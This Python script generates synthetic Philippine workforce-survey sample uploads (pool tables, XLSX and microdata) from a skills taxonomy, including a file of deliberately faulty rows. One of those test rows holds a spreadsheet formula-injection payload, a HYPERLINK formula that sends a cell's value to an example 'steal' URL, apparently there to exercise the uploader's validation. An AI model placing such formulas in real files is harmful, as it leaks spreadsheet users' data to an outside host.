"""Writes the sample workforce-survey uploads in this folder, deterministically.

    .venv/bin/python seed_data/samples/make_samples.py

Skills come from seed_data/taxonomy/skills.csv through the occupation profiles in
seed_data/taxonomy/occupation_skills.csv, so every code in the valid samples exists in the
built-in taxonomy. bench/bench_upload.py imports `write_microdata` to make its 100,000 rows.
Everything is synthetic: the respondents are made up, and respondent ids are sequence numbers.
"""

from __future__ import annotations

import csv
import random
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
TAXONOMY = HERE.parent / "taxonomy"
SEED = 20261128

POOL_COLUMNS = [
    "origin_country",
    "region",
    "occupation",
    "sector",
    "headcount",
    "skills",
    "languages",
    "isced_level",
    "experience_years",
    "available_from",
]
MICRODATA_COLUMNS = [
    "respondent_id",
    "region",
    "occupation",
    "sector",
    "isced_level",
    "languages",
    "skills",
    "experience_years",
    "willing_to_work_abroad",
]

#: A plausible ISIC Rev.4 division for each occupation of the occupation profiles.
SECTOR_OF = {
    "2221": "86",
    "3221": "86",
    "5321": "87",
    "5322": "88",
    "2511": "62",
    "2512": "62",
    "3512": "62",
    "4224": "55",
    "5120": "56",
    "5131": "56",
    "6111": "01",
    "6112": "01",
    "7112": "41",
    "7115": "41",
    "7126": "43",
    "7212": "25",
    "7223": "28",
    "7411": "43",
    "8160": "10",
    "8211": "29",
    "8331": "49",
    "8332": "49",
    "8344": "52",
    "9112": "81",
    "9211": "01",
    "9313": "41",
    "9412": "56",
}
#: Typical ISCED level of the occupation (design section 2: 6 = bachelor's).
ISCED_OF = {"2221": 6, "2511": 6, "2512": 6, "3221": 5, "3512": 5}
#: Job titles that ministries write instead of codes (all in seed_data/taxonomy/job_titles.csv).
TITLES = {
    "2221": "registered nurse",
    "5321": "care assistant",
    "5322": "caregiver",
    "5120": "cook",
    "7112": "bricklayer",
    "7411": "building electrician",
    "8331": "bus driver",
    "9211": "apple picker",
    "2512": "backend developer",
}
#: Regions of the Philippines, most populous first: later regions get few respondents, so some
#: small (region, occupation) cells are suppressed in the microdata sample.
REGIONS = [
    "National Capital Region",
    "CALABARZON",
    "Central Luzon",
    "Central Visayas",
    "Western Visayas",
    "Davao Region",
    "Northern Mindanao",
    "Ilocos Region",
    "Bicol Region",
    "Eastern Visayas",
    "Caraga",
    "Cordillera Administrative Region",
]
REGION_WEIGHTS = [30, 24, 18, 9, 6, 4, 3, 2, 1.5, 1.2, 0.8, 0.5]


def occupation_profiles() -> dict[str, list[tuple[str, str]]]:
    """ISCO code -> [(skill id, essential|optional)], from the seed files."""
    with (TAXONOMY / "skills.csv").open(encoding="utf-8") as fh:
        skills = {row["id"] for row in csv.DictReader(fh)}
    out: dict[str, list[tuple[str, str]]] = {}
    with (TAXONOMY / "occupation_skills.csv").open(encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if row["skill_id"] in skills:
                out.setdefault(row["isco_code"], []).append((row["skill_id"], row["relation"]))
    return dict(sorted(out.items()))


def _skills_held(rng: random.Random, profile: list[tuple[str, str]]) -> list[str]:
    return [s for s, rel in profile if rng.random() < (0.75 if rel == "essential" else 0.3)]


def _pool_row(
    rng: random.Random, code: str, profile: list[tuple[str, str]], region: str, *, title: bool
) -> dict[str, Any]:
    skills = []
    for skill, relation in profile[:8]:
        share = round(
            rng.uniform(0.6, 1.0) if relation == "essential" else rng.uniform(0.1, 0.6), 2
        )
        skills.append(skill if share == 1.0 else f"{skill}:{share}")
    english = round(rng.uniform(0.3, 0.8), 2)
    languages = f"en:B2:{english};en:B1:{round(min(1 - english, rng.uniform(0.1, 0.4)), 2)}"
    if rng.random() < 0.3:
        languages += f";ja:A2:{round(rng.uniform(0.05, 0.2), 2)}"
    return {
        "origin_country": "PH",
        "region": region,
        "occupation": TITLES[code] if title and code in TITLES else code,
        "sector": SECTOR_OF.get(code, ""),
        "headcount": rng.choice([25, 40, 60, 80, 120, 150, 200, 350, 500]),
        "skills": ";".join(skills),
        "languages": languages,
        "isced_level": ISCED_OF.get(code, 3),
        "experience_years": round(rng.uniform(1, 12) * 2) / 2,
        "available_from": (date(2026, 3, 1) + timedelta(days=30 * rng.randrange(8))).isoformat(),
    }


def pool_rows(n: int = 30, seed: int = SEED) -> list[dict[str, Any]]:
    rng = random.Random(seed)
    profiles = occupation_profiles()
    codes = list(profiles)
    rows = []
    for i in range(n):
        code = codes[i % len(codes)]
        rows.append(_pool_row(rng, code, profiles[code], REGIONS[i % 6], title=i % 5 == 4))
    return rows


def microdata_rows(n: int, seed: int = SEED) -> Iterator[dict[str, Any]]:
    """`n` synthetic respondents of a labour force survey in the Philippines."""
    rng = random.Random(seed)
    profiles = occupation_profiles()
    codes = list(profiles)
    # A few occupations are common, most are rare: realistic, and it leaves small cells.
    weights = [1.0 / (1 + i * 0.35) for i in range(len(codes))]
    rng.shuffle(weights)
    for i in range(n):
        code = rng.choices(codes, weights)[0]
        region = rng.choices(REGIONS, REGION_WEIGHTS)[0]
        languages = ["tl:C2"]
        if rng.random() < 0.85:
            languages.append("en:" + rng.choices(["A2", "B1", "B2", "C1"], [1, 3, 4, 2])[0])
        if rng.random() < 0.08:
            languages.append("ja:" + rng.choice(["A1", "A2", "B1"]))
        typical = ISCED_OF.get(code, 3)
        isced = max(0, min(8, typical + rng.choice([-1, 0, 0, 0, 1])))
        yield {
            "respondent_id": f"R{i + 1:07d}",
            "region": region,
            "occupation": TITLES[code] if code in TITLES and rng.random() < 0.2 else code,
            "sector": SECTOR_OF.get(code, "") if rng.random() < 0.9 else "",
            "isced_level": isced,
            "languages": ";".join(languages),
            "skills": ";".join(_skills_held(rng, profiles[code])),
            "experience_years": round(min(40.0, rng.expovariate(1 / 6)) * 2) / 2,
            "willing_to_work_abroad": rng.choices(["yes", "no"], [65, 35])[0],
        }


def write_csv(
    path: Path, columns: list[str], rows: Any, *, delimiter: str = ",", bom: bool = False
) -> None:
    with path.open("w", newline="", encoding="utf-8-sig" if bom else "utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns, delimiter=delimiter, lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)


def write_microdata(path: Path, n: int, seed: int = SEED) -> None:
    write_csv(path, MICRODATA_COLUMNS, microdata_rows(n, seed))


def write_xlsx(path: Path, rows: list[dict[str, Any]]) -> None:
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    # Fixed document times, so that running the script twice writes the same workbook.
    workbook.properties.created = workbook.properties.modified = datetime(2026, 1, 1)
    sheet = workbook.create_sheet("pools")
    sheet.append(POOL_COLUMNS)
    for row in rows:
        values = dict(row)
        # Real cells: numbers as numbers (the ISCO code too, as spreadsheets store it), the
        # date as a date, so the reader's conversions are exercised.
        values["occupation"] = (
            int(row["occupation"]) if row["occupation"].isdigit() else (row["occupation"])
        )
        values["available_from"] = date.fromisoformat(row["available_from"])
        sheet.append([values[c] for c in POOL_COLUMNS])
    workbook.save(path)


def mistakes_rows() -> list[dict[str, Any]]:
    """One typical mistake per row (rows 3.. of the file); row 2 is good."""
    good = pool_rows(1, seed=SEED + 1)[0] | {
        "occupation": "2221",
        "sector": "86",
        "skills": "patient-assessment;wound-care:0.8",
    }
    return [
        good,
        good | {"occupation": "9999"},  # unknown ISCO code
        good | {"languages": "en:B4:0.5"},  # not a CEFR level
        good | {"skills": "patient-assessment:1.5"},  # share above 1
        good | {"headcount": "0"},  # a pool of nobody
        good | {"origin_country": "XZ"},  # not an ISO 3166-1 code
        good | {"skills": '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")'},
        good | {"occupation": "various duties"},  # too vague to code
    ]


def main() -> None:
    rows = pool_rows(30)
    write_csv(HERE / "pool_table.csv", POOL_COLUMNS, rows)
    semicolon = [
        r | {"experience_years": str(r["experience_years"]).replace(".", ",")}
        for r in pool_rows(4, seed=SEED + 2)
    ]
    write_csv(
        HERE / "pool_table_semicolon_bom.csv", POOL_COLUMNS, semicolon, delimiter=";", bom=True
    )
    write_xlsx(HERE / "pool_table.xlsx", rows)
    write_csv(HERE / "pool_table_with_mistakes.csv", POOL_COLUMNS, mistakes_rows())
    write_microdata(HERE / "microdata.csv", 10_000)
    print(f"wrote the samples to {HERE}")


if __name__ == "__main__":
    main()
